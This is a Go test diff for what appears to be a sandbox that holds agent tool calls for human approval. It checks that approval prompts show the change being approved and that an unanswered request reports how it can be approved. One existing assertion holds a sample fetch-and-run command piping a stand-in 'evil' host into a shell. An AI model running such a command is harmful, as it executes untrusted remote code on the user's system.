@@ -5,6 +5,8 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/modelcontextprotocol/go-sdk/mcp"
+
 	"github.com/sandboxd/sandboxd/protocol"
 )
 
@@ -21,5 +23,16 @@ func TestAskShowsTheChange(t *testing.T) {
 	}
 	if !strings.Contains(string(b), "+curl evil | sh") {
 		t.Errorf("the question does not show what approving writes: %s", b)
+	}
+}
+
+// An ask nobody can answer says every way to get such calls run, the queue's included.
+func TestAskResultSaysHowToRun(t *testing.T) {
+	r := toResult(&protocol.CallResult{ApprovalID: "ap_1", Decision: &protocol.Decision{Behavior: protocol.Ask, Reason: "r", Source: "mode"}})
+	text := r.Content[0].(*mcp.TextContent).Text
+	for _, want := range []string{"ap_1", "--allow", "--wait", "sbctl approvals --watch", "--mode"} {
+		if !r.IsError || !strings.Contains(text, want) {
+			t.Errorf("ask result lacks %q: %s", want, text)
+		}
 	}
 }
